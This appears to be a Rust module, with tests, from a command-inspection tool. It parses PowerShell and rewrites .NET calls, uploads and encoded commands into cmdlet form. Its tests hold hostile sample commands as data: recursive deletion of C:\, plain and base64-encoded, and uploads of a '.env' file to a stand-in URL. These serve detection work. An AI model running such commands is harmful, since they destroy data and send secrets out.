//! PowerShell: statements and pipelines of commands with their words, script blocks and
//! subexpressions handed back as nested text, and `-EncodedCommand` decoding.

use super::flat::{FlatCommand, FlatScript};
use super::{Dialect, Redirect, RedirectOp, Word};

/// Statements that are language keywords, not commands; their blocks still run.
const KEYWORDS: [&str; 24] = [
    "if", "elseif", "else", "foreach", "for", "while", "do", "until", "switch", "try", "catch", "finally",
    "trap", "function", "filter", "param", "begin", "process", "end", "return", "throw", "break", "continue",
    "exit",
];

/// Split a PowerShell command line into pipelines of commands; `true` when it is incomplete.
pub(super) fn parse(src: &str) -> (FlatScript, bool) {
    let mut parser = Parser {
        src,
        bytes: src.as_bytes(),
        pos: 0,
        incomplete: false,
        script: Vec::new(),
        pipeline: Vec::new(),
        command: FlatCommand::default(),
        command_start: 0,
        assigned: false,
    };
    parser.run();
    (parser.script, parser.incomplete)
}

struct Parser<'a> {
    src: &'a str,
    bytes: &'a [u8],
    pos: usize,
    incomplete: bool,
    script: FlatScript,
    pipeline: Vec<FlatCommand>,
    command: FlatCommand,
    command_start: usize,
    /// The command's value is assigned to a variable (`$p = …`), not shown.
    assigned: bool,
}

fn ends_word(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'(' | b')' | b'{' | b'}' | b'>')
}

impl Parser<'_> {
    fn peek_at(&self, offset: usize) -> Option<u8> {
        self.bytes.get(self.pos + offset).copied()
    }

    fn slice(&self, start: usize, end: usize) -> &str {
        self.src.get(start..end.min(self.src.len())).unwrap_or_default()
    }

    fn run(&mut self) {
        while let Some(b) = self.peek_at(0) {
            match b {
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'`' if matches!(self.peek_at(1), Some(b'\n' | b'\r')) => self.pos += 2,
                b'\n' | b';' => {
                    self.pos += 1;
                    self.end_statement();
                }
                b'|' | b'&' if self.peek_at(1) == Some(b) => {
                    self.pos += 2;
                    self.end_statement();
                }
                b'|' => {
                    self.pos += 1;
                    self.end_command();
                }
                // The call operator, and dot-sourcing (`. $x`, `. ./lib.ps1`): the next word is
                // the command, whatever its form.
                b'&' | b'.'
                    if self.command.argv.is_empty()
                        && (b == b'&' || matches!(self.peek_at(1), Some(b' ' | b'\t'))) =>
                {
                    self.pos += 1;
                    self.command.runs = true;
                    self.command_start = self.pos;
                }
                b'&' => {
                    self.pos += 1;
                    self.end_statement();
                }
                b'#' => self.skip_to(b"\n", false),
                b'<' if self.peek_at(1) == Some(b'#') => self.skip_to(b"#>", true),
                b'>' => self.redirect(None),
                b'0'..=b'9' | b'*' if matches!(self.peek_at(1), Some(b'>')) => {
                    let fd = char::from(b).to_digit(10);
                    self.pos += 1;
                    self.redirect(fd);
                }
                _ => self.word(),
            }
        }
        self.end_statement();
    }

    fn skip_to(&mut self, end: &[u8], past: bool) {
        let rest = &self.bytes[self.pos..];
        match rest.windows(end.len()).position(|w| w == end) {
            Some(at) => self.pos += at + if past { end.len() } else { 0 },
            None => self.pos = self.bytes.len(),
        }
    }

    fn end_command(&mut self) {
        let mut command = std::mem::take(&mut self.command);
        let assigned = std::mem::take(&mut self.assigned);
        if command.argv.is_empty() && command.nested.is_empty() {
            return;
        }
        command.text = self
            .slice(self.command_start, self.pos)
            .trim()
            .trim_end_matches(['|', ';', '&'])
            .trim()
            .to_string();
        let first = command.argv.first();
        let keyword =
            first.is_some_and(|w| KEYWORDS.iter().any(|k| w.text.eq_ignore_ascii_case(k)) && !w.dynamic);
        // A statement that starts with a value is an expression, not a command.
        let bareword = first.is_some_and(|w| {
            !w.dynamic
                && w.raw.bytes().next().is_some_and(|b| b.is_ascii_alphabetic() || b"_.\\/~".contains(&b))
        });
        command.runs = !keyword && (command.runs || bareword);
        if let Some(text) = dotnet_call(&command.argv) {
            command.nested.push((text, Dialect::PowerShell));
        }
        if let Some(text) = upload_call(&command.text) {
            command.nested.push((text, Dialect::PowerShell));
        }
        if !assigned && shows_plain_password(&command.text) {
            command.nested.push((PLAIN_PASSWORD.to_owned(), Dialect::PowerShell));
        }
        self.pipeline.push(command);
    }

    fn end_statement(&mut self) {
        self.end_command();
        if !self.pipeline.is_empty() {
            self.script.push(std::mem::take(&mut self.pipeline));
        }
    }

    fn redirect(&mut self, fd: Option<u32>) {
        self.pos += 1;
        let op = if self.peek_at(0) == Some(b'>') {
            self.pos += 1;
            RedirectOp::Append
        } else {
            RedirectOp::Write
        };
        if self.peek_at(0) == Some(b'&') {
            let start = self.pos + 1;
            self.pos = start + self.bytes[start..].iter().take_while(|b| b.is_ascii_digit()).count();
            let target = Word::literal(self.slice(start, self.pos));
            self.command.redirects.push(Redirect { fd, op: RedirectOp::Duplicate, target });
            return;
        }
        while matches!(self.peek_at(0), Some(b' ' | b'\t')) {
            self.pos += 1;
        }
        let target = self.lex_word();
        self.command.redirects.push(Redirect { fd, op, target });
    }

    fn word(&mut self) {
        if self.command.argv.is_empty() && !self.command.runs {
            self.command_start = self.pos;
        }
        let start = self.pos;
        let word = self.lex_word();
        if self.pos == start {
            // A character no rule consumes (a stray closer): skip it.
            self.pos += 1;
            self.incomplete = true;
            return;
        }
        // `$x = Get-Thing`: what follows the assignment is a new command.
        let assigns = matches!(word.text.as_str(), "=" | "+=" | "-=" | "*=" | "/=")
            && matches!(self.command.argv.as_slice(), [target] if target.raw.starts_with('$'));
        if assigns {
            self.command.argv.clear();
            self.assigned = true;
            while matches!(self.peek_at(0), Some(b' ' | b'\t')) {
                self.pos += 1;
            }
            self.command_start = self.pos;
            return;
        }
        self.command.argv.push(word);
    }

    /// The end, just past the closer, of a bracket opened before `from`.
    fn close(&mut self, from: usize, closer: u8) -> usize {
        match find_close(self.bytes, from, closer) {
            Some(end) => end,
            None => {
                self.incomplete = true;
                self.bytes.len()
            }
        }
    }

    fn nest(&mut self, open: usize, body_start: usize, closer: u8) -> String {
        let end = self.close(body_start, closer);
        let body = self.slice(body_start, end.saturating_sub(1).max(body_start)).to_string();
        self.command.nested.push((body, Dialect::PowerShell));
        self.pos = end;
        self.slice(open, end).to_string()
    }

    fn lex_word(&mut self) -> Word {
        let start = self.pos;
        let mut word = Word::default();
        while let Some(b) = self.peek_at(0) {
            match b {
                b'(' if self.pos == start => {
                    word.text.push_str(&self.nest(start, start + 1, b')'));
                    word.dynamic = true;
                }
                b'{' if self.pos == start => {
                    word.text.push_str(&self.nest(start, start + 1, b'}'));
                    word.dynamic = true;
                }
                b'@' if matches!(self.peek_at(1), Some(b'(' | b'{')) => {
                    // `@(...)` is code; `@{...}` is a hashtable, whose keys are not commands.
                    let open = self.pos;
                    let raw = if self.peek_at(1) == Some(b'(') {
                        self.nest(open, open + 2, b')')
                    } else {
                        let end = self.close(open + 2, b'}');
                        self.pos = end;
                        self.slice(open, end).to_string()
                    };
                    word.text.push_str(&raw);
                    word.dynamic = true;
                }
                _ if ends_word(b) => break,
                b'`' => {
                    self.pos += 1;
                    if let Some(c) = self.slice(self.pos, self.bytes.len()).chars().next() {
                        self.pos += c.len_utf8();
                        word.text.push(c);
                    }
                }
                b'\'' => {
                    self.pos += 1;
                    loop {
                        let rest = &self.bytes[self.pos..];
                        let Some(quote) = rest.iter().position(|&c| c == b'\'') else {
                            word.text.push_str(self.slice(self.pos, self.bytes.len()));
                            self.pos = self.bytes.len();
                            self.incomplete = true;
                            break;
                        };
                        word.text.push_str(self.slice(self.pos, self.pos + quote));
                        self.pos += quote + 1;
                        if self.peek_at(0) != Some(b'\'') {
                            break;
                        }
                        word.text.push('\'');
                        self.pos += 1;
                    }
                }
                b'"' => {
                    self.pos += 1;
                    self.double_quoted(&mut word);
                }
                b'$' => self.variable(&mut word),
                _ => {
                    let Some(c) = self.slice(self.pos, self.bytes.len()).chars().next() else { break };
                    self.pos += c.len_utf8();
                    word.text.push(c);
                }
            }
        }
        word.raw = self.slice(start, self.pos).to_string();
        word.glob = word.raw.contains(['*', '?']) && !word.dynamic;
        word
    }

    fn double_quoted(&mut self, word: &mut Word) {
        while let Some(b) = self.peek_at(0) {
            match b {
                b'"' if self.peek_at(1) == Some(b'"') => {
                    self.pos += 2;
                    word.text.push('"');
                }
                b'"' => {
                    self.pos += 1;
                    return;
                }
                b'`' => {
                    self.pos += 1;
                    let Some(c) = self.slice(self.pos, self.bytes.len()).chars().next() else { break };
                    self.pos += c.len_utf8();
                    word.text.push(match c {
                        'n' => '\n',
                        't' => '\t',
                        'r' => '\r',
                        '0' => '\0',
                        'a' => '\x07',
                        'e' => '\x1b',
                        other => other,
                    });
                }
                b'$' => self.variable(word),
                _ => {
                    let Some(c) = self.slice(self.pos, self.bytes.len()).chars().next() else { break };
                    self.pos += c.len_utf8();
                    word.text.push(c);
                }
            }
        }
        self.incomplete = true;
    }

    /// At `$`: a variable, `${name}` or a `$(...)` subexpression; all known only at run time.
    fn variable(&mut self, word: &mut Word) {
        let start = self.pos;
        match self.peek_at(1) {
            Some(b'(') => {
                let raw = self.nest(start, start + 2, b')');
                word.text.push_str(&raw);
            }
            Some(b'{') => {
                let end = self.close(start + 2, b'}');
                self.pos = end;
                word.text.push_str(self.slice(start, end));
            }
            Some(b) if b.is_ascii_alphanumeric() || matches!(b, b'_' | b'?' | b'$' | b'^') => {
                self.pos += 1;
                while self.peek_at(0).is_some_and(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'?' | b'$' | b'^')
                }) {
                    self.pos += 1;
                }
                word.text.push_str(self.slice(start, self.pos));
            }
            _ => {
                self.pos += 1;
                word.text.push('$');
                return;
            }
        }
        word.dynamic = true;
    }
}

/// The index just past the `closer` that closes a bracket whose inside starts at `from`;
/// quotes, nested brackets and subexpressions in strings are skipped. Iterative.
/// .NET calls that run code or delete files, as the PowerShell commands that do the same:
/// `[scriptblock]::Create("…")` is its text, `[IO.Directory]::Delete(p, $true)` is
/// `Remove-Item -Recurse p`, `[Diagnostics.Process]::Start("cmd", "/c …")` is `& cmd /c …`.
/// Code given as a value (`[scriptblock]::Create($s)`) is `Invoke-Expression $s`: code the line does not fix.
/// `[Environment]::GetEnvironmentVariables()` lists the environment as `Get-ChildItem env:` does.
fn dotnet_call(argv: &[Word]) -> Option<String> {
    let [call, arguments, ..] = argv else { return None };
    // `("…")` and `("…").Invoke`: the arguments end where their bracket closes.
    let close = find_close(arguments.raw.as_bytes(), 1, b')')?;
    let inner = arguments.raw.get(1..close - 1)?;
    let lower = call.raw.to_ascii_lowercase();
    let (class, method) = lower.strip_prefix('[')?.split_once("]::")?;
    let class = class.trim_start_matches("system.");
    let args = top_level_arguments(inner);
    let first = args.first()?.trim();
    let literal = |text: &str| -> Option<String> {
        let text = text.trim();
        let quote = text.chars().next().filter(|q| matches!(q, '\'' | '"'))?;
        let body = text.strip_prefix(quote)?.strip_suffix(quote)?;
        (!(quote == '"' && body.contains('$'))).then(|| body.replace("''", "'"))
    };
    // Code computed at run time (`(irm URL)`, `$s`) runs as `Invoke-Expression` would run it.
    let code = |text: &str| literal(text).unwrap_or_else(|| format!("Invoke-Expression {text}"));
    let recursive = args.get(1).is_some_and(|flag| flag.trim().eq_ignore_ascii_case("$true"));
    match (class, method) {
        ("scriptblock" | "management.automation.scriptblock", "create") => Some(code(first)),
        ("io.directory", "delete") if recursive => Some(format!("Remove-Item -Recurse -Force {first}")),
        ("io.directory" | "io.file", "delete") => Some(format!("Remove-Item -Force {first}")),
        // `[IO.File]::ReadAllText(p)` and the other whole-file reads are `Get-Content p`.
        (
            "io.file",
            "readalltext" | "readallbytes" | "readalllines" | "readlines" | "openread" | "opentext",
        ) => Some(format!("Get-Content {first}")),
        // The whole-file writes are `Set-Content p` (`Add-Content p` when they append).
        (
            "io.file",
            "writealltext" | "writeallbytes" | "writealllines" | "create" | "createtext" | "openwrite",
        ) => Some(format!("Set-Content {first}")),
        ("io.file", "appendalltext" | "appendalllines" | "appendtext") => {
            Some(format!("Add-Content {first}"))
        }
        ("environment", "getenvironmentvariables") => Some("Get-ChildItem env:".to_owned()),
        // A secure string's text read out of memory, as `ConvertFrom-SecureString -AsPlainText`.
        (
            "runtime.interopservices.marshal",
            "ptrtostringauto" | "ptrtostringbstr" | "ptrtostringuni" | "ptrtostringunicode",
        ) if first.to_ascii_lowercase().contains("securestringto") => Some(PLAIN_PASSWORD.to_owned()),
        ("microsoft.visualbasic.fileio.filesystem", "deletedirectory") => {
            Some(format!("Remove-Item -Recurse -Force {first}"))
        }
        ("diagnostics.process", "start") => {
            let program = literal(first).unwrap_or_else(|| first.to_string());
            let rest =
                args.get(1).map(|a| literal(a).unwrap_or_else(|| a.trim().to_string())).unwrap_or_default();
            Some(format!("& {program} {rest}"))
        }
        _ => None,
    }
}

/// The command that shows a secure string's text (a credential's password), which the
/// secure-string forms that do the same stand for.
const PLAIN_PASSWORD: &str = "ConvertFrom-SecureString -AsPlainText";

/// Whether a statement shows a credential's password in clear: `$c.GetNetworkCredential().Password`
/// or `(Get-Credential).GetNetworkCredential().Password` as its value or a command's argument.
/// The statement's text is read whole: the words split at the call's parentheses.
fn shows_plain_password(text: &str) -> bool {
    const CALL: &[u8] = b".getnetworkcredential()";
    const FIELD: &[u8] = b".password";
    let bytes = text.as_bytes();
    bytes.windows(CALL.len()).position(|part| part.eq_ignore_ascii_case(CALL)).is_some_and(|at| {
        bytes[at + CALL.len()..].windows(FIELD.len()).any(|part| part.eq_ignore_ascii_case(FIELD))
    })
}

/// A .NET web client's upload (`(New-Object Net.WebClient).UploadFile('URL', 'F')`,
/// `UploadString`, `UploadData`, `UploadValues`, their `Async` forms) as the request
/// `Invoke-RestMethod` makes of it: the file as `-InFile`, the data as `-Body`.
fn upload_call(text: &str) -> Option<String> {
    const UPLOAD: &[u8] = b".upload";
    let at = text.as_bytes().windows(UPLOAD.len()).position(|part| part.eq_ignore_ascii_case(UPLOAD))?;
    let open = at + text[at..].find('(')?;
    let method = text[at + 1..open].to_ascii_lowercase();
    let method = method.trim_end_matches("async").trim_end_matches("task");
    let close = find_close(text.as_bytes(), open + 1, b')')?;
    let args = top_level_arguments(text.get(open + 1..close - 1)?);
    let (address, rest) = args.split_first()?;
    // `UploadFile(address, [method,] file)`: what is sent is the last argument.
    let sent = rest.last()?.trim();
    let option = match method {
        "uploadfile" => "-InFile",
        "uploadstring" | "uploaddata" | "uploadvalues" => "-Body",
        _ => return None,
    };
    Some(format!("Invoke-RestMethod -Method Post -Uri {} {option} {sent}", address.trim()))
}

/// A call's arguments split at the commas outside quotes and brackets.
fn top_level_arguments(inner: &str) -> Vec<&str> {
    let mut args = Vec::new();
    let (mut depth, mut quote, mut start) = (0usize, None, 0);
    for (i, c) in inner.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth = depth.saturating_sub(1),
            (None, ',') if depth == 0 => {
                args.push(&inner[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    args.push(&inner[start..]);
    args
}

fn find_close(bytes: &[u8], from: usize, closer: u8) -> Option<usize> {
    let mut stack = vec![closer];
    let mut i = from;
    while i < bytes.len() {
        let b = bytes[i];
        let top = *stack.last()?;
        if top == b'"' {
            match b {
                b'`' => i += 1,
                b'"' if bytes.get(i + 1) == Some(&b'"') => i += 1,
                b'"' => {
                    stack.pop();
                }
                b'$' if bytes.get(i + 1) == Some(&b'(') => {
                    stack.push(b')');
                    i += 1;
                }
                _ => {}
            }
        } else {
            match b {
                b'`' => i += 1,
                b'\'' => i += bytes[i + 1..].iter().position(|&c| c == b'\'')? + 1,
                b'"' => stack.push(b'"'),
                b'(' => stack.push(b')'),
                b'{' => stack.push(b'}'),
                b')' | b'}' if b == top => {
                    stack.pop();
                }
                b'#' if i == 0 || bytes.get(i - 1).is_some_and(|c| c.is_ascii_whitespace()) => {
                    i += bytes[i..].iter().position(|&c| c == b'\n').unwrap_or(bytes.len() - i);
                    continue;
                }
                _ => {}
            }
        }
        i += 1;
        if stack.is_empty() {
            return Some(i);
        }
    }
    None
}

/// The command of `-EncodedCommand`: base64 of UTF-16LE text. `None` when the bytes are not
/// such text (an odd count, a broken surrogate, control characters, or mostly characters
/// outside ASCII, as the base64 of UTF-8 text decodes to): what PowerShell runs is not known.
pub(super) fn decode_encoded_command(encoded: &str) -> Option<String> {
    let bytes = super::base64::decode(encoded)?;
    if bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    let text = String::from_utf16(&units).ok()?;
    let control = text.chars().any(|c| c.is_control() && !c.is_ascii_whitespace());
    let foreign = text.chars().filter(|c| !c.is_ascii()).count();
    (!control && !text.trim().is_empty() && foreign * 2 <= text.chars().count()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(src: &str) -> Vec<(Vec<String>, bool)> {
        parse(src)
            .0
            .into_iter()
            .flatten()
            .map(|c| (c.argv.into_iter().map(|w| w.text).collect(), c.runs))
            .collect()
    }

    fn run(src: &str) -> Vec<Vec<String>> {
        commands(src).into_iter().filter(|(_, runs)| *runs).map(|(argv, _)| argv).collect()
    }

    #[test]
    fn quoting_and_separators() {
        assert_eq!(
            run("Remove-Item -Recurse -Force 'C:\\it''s'; rm \"a`tb\" | Out-Null && ls || dir"),
            [
                vec!["Remove-Item", "-Recurse", "-Force", "C:\\it's"],
                vec!["rm", "a\tb"],
                vec!["Out-Null"],
                vec!["ls"],
                vec!["dir"],
            ]
        );
    }

    #[test]
    fn call_operator_and_expressions() {
        assert_eq!(run("& 'C:\\tools\\rm.exe' -rf x"), [vec!["C:\\tools\\rm.exe", "-rf", "x"]]);
        assert_eq!(run("$x = Get-ChildItem C:\\; 'text'; 42"), [vec!["Get-ChildItem", "C:\\"]]);
        assert_eq!(run("if (Test-Path x) { Remove-Item x }"), Vec::<Vec<String>>::new());
    }

    #[test]
    fn blocks_and_subexpressions_are_nested_text() {
        let (script, incomplete) = parse(
            "Invoke-Command -ScriptBlock { Remove-Item -Recurse C:\\ }; echo $(Get-Date) \"$(whoami)\"",
        );
        assert!(!incomplete);
        let nested: Vec<String> =
            script.iter().flatten().flat_map(|c| c.nested.iter().map(|(body, _)| body.clone())).collect();
        assert_eq!(nested, [" Remove-Item -Recurse C:\\ ", "Get-Date", "whoami"]);
        let first = &script[0][0];
        assert!(first.argv[2].dynamic);
        let hashtable = parse("New-Thing @{ Name = 'x' }").0;
        assert!(hashtable[0][0].nested.is_empty());
    }

    #[test]
    fn redirections() {
        let script = parse("Get-Thing > out.txt 2>&1 3>> log").0;
        let command = &script[0][0];
        assert_eq!(command.argv.len(), 1);
        assert_eq!(
            command.redirects,
            [
                Redirect { fd: None, op: RedirectOp::Write, target: Word::literal("out.txt") },
                Redirect { fd: Some(2), op: RedirectOp::Duplicate, target: Word::literal("1") },
                Redirect { fd: Some(3), op: RedirectOp::Append, target: Word::literal("log") },
            ]
        );
    }

    #[test]
    fn comments() {
        assert_eq!(run("ls # Remove-Item x\n<# rm y #> dir"), [vec!["ls"], vec!["dir"]]);
    }

    #[test]
    fn encoded_command() {
        // "rm -r C:\" as UTF-16LE, base64.
        assert_eq!(decode_encoded_command("cgBtACAALQByACAAQwA6AFwA").as_deref(), Some("rm -r C:\\"));
        assert_eq!(decode_encoded_command("not base64!"), None);
        // `rm` in UTF-8, not UTF-16LE: one character outside ASCII.
        assert_eq!(decode_encoded_command("cm0="), None);
        assert_eq!(decode_encoded_command(""), None);
    }

    #[test]
    fn uploads_are_requests() {
        assert_eq!(
            upload_call("(New-Object Net.WebClient).UploadFile('https://x', 'POST', '.env')").as_deref(),
            Some("Invoke-RestMethod -Method Post -Uri 'https://x' -InFile '.env'")
        );
        assert_eq!(
            upload_call("$w.uploadString(\"https://x\", (gc .env -Raw))").as_deref(),
            Some("Invoke-RestMethod -Method Post -Uri \"https://x\" -Body (gc .env -Raw)")
        );
        assert_eq!(upload_call("$w.UploadFile"), None);
        assert_eq!(upload_call("$w.Uploads('x')"), None);
    }

    #[test]
    fn unterminated_input_is_incomplete() {
        for src in ["echo 'x", "echo \"x", "echo $(x", "{ x", "echo @(", "echo ${x"] {
            assert!(parse(src).1, "{src}");
        }
        let _ = parse("`");
        let _ = parse("é`é\"`");
    }
}
